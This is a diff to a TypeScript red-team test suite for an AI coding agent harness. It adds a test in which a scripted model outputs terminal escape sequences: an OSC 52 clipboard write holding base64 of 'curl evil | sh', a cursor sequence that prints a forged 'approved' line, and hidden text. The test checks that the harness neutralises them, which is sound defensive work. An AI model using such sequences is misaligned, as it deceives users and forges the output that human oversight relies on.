@@ -55,7 +55,7 @@ afterEach(() => world?.close())
  * Runs cto in the workspace against a server that answers with `turns` in order (each a list of
  * tool calls; placeholders filled by the world), then 'done'. `args` default: `run -m deepseek`.
  */
-async function session(turns: ScriptedToolCall[][], opts: {args?: string[]; cwd?: string; tools?: Record<string, unknown>; handler?: (r: ChatRequest) => OpenAIReply | undefined} = {}): Promise<Session> {
+async function session(turns: ScriptedToolCall[][], opts: {args?: string[]; cwd?: string; tools?: Record<string, unknown>; answer?: string; handler?: (r: ChatRequest) => OpenAIReply | undefined} = {}): Promise<Session> {
   const results: string[] = []
   let worker = 0
   const fill = (v: unknown): unknown =>
@@ -66,7 +66,7 @@ async function session(turns: ScriptedToolCall[][], opts: {args?: string[]; cwd?
       if (special) return special
       if (worker > 0) results.push(...toolMessages(request).slice(-(turns[worker - 1]?.length ?? 0)).map((m) => m.content))
       const next = turns[worker++]
-      if (!next) return {content: 'done'}
+      if (!next) return {content: opts.answer ?? 'done'}
       return {toolCalls: next.map((c) => ({...c, arguments: fill(c.arguments) as Record<string, unknown>})), usage: {prompt_tokens: 10, completion_tokens: 5}}
     },
   })
@@ -284,5 +284,22 @@ describe.skipIf(osSandboxMissing !== undefined)(`red team: multi-step attacks th
     expect(s.results[2]).toMatch(/^Error: Refused to write .*Claude Code's project commands, agents and hooks/)
     for (const p of ['.claude', '.vscode']) expect(existsSync(join(world.ws, p)), p).toBe(false)
     expectHeld(s, baseline, ctoOwn)
+  })
+
+  it("a model's escape sequences never reach the user's terminal: no clipboard write, no line forged over cto's own", async () => {
+    // OSC 52 puts `curl evil | sh` in the clipboard; cursor-up + erase-line prints a fake line over the last one; 0x9b is a one-byte CSI.
+    const osc52 = '\u001b]52;c;Y3VybCBldmlsIHwgc2gK\u0007'
+    const forge = '\r\u001b[1A\u001b[2K✔ Attempt 1 · approved'
+    const turns: ScriptedToolCall[][] = [[{name: 'run_command', arguments: {command: `echo hi ${forge}`}}], [{name: 'read_file', arguments: {path: `no-such${osc52}`}}]]
+    const answer = `All good.${osc52}\u009b2J\u001b[8mhidden\u001b[0m`
+    for (const args of [undefined, ['task', '-m', 'deepseek', 'say hi']]) {
+      const reviews: string[] = []
+      const s = await session(turns, {answer, ...(args ? {args, handler: foolishCto(reviews)} : {})})
+      expect(s.code, s.stderr).toBe(0)
+      const shown = s.stdout + s.stderr
+      expect(shown).toContain('All good.␛]52;c;Y3VybCBldmlsIHwgc2gK␇')
+      expect(shown).toContain('echo hi ␛[1A␛[2K✔ Attempt 1')
+      expect(shown).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
+    }
   })
 })
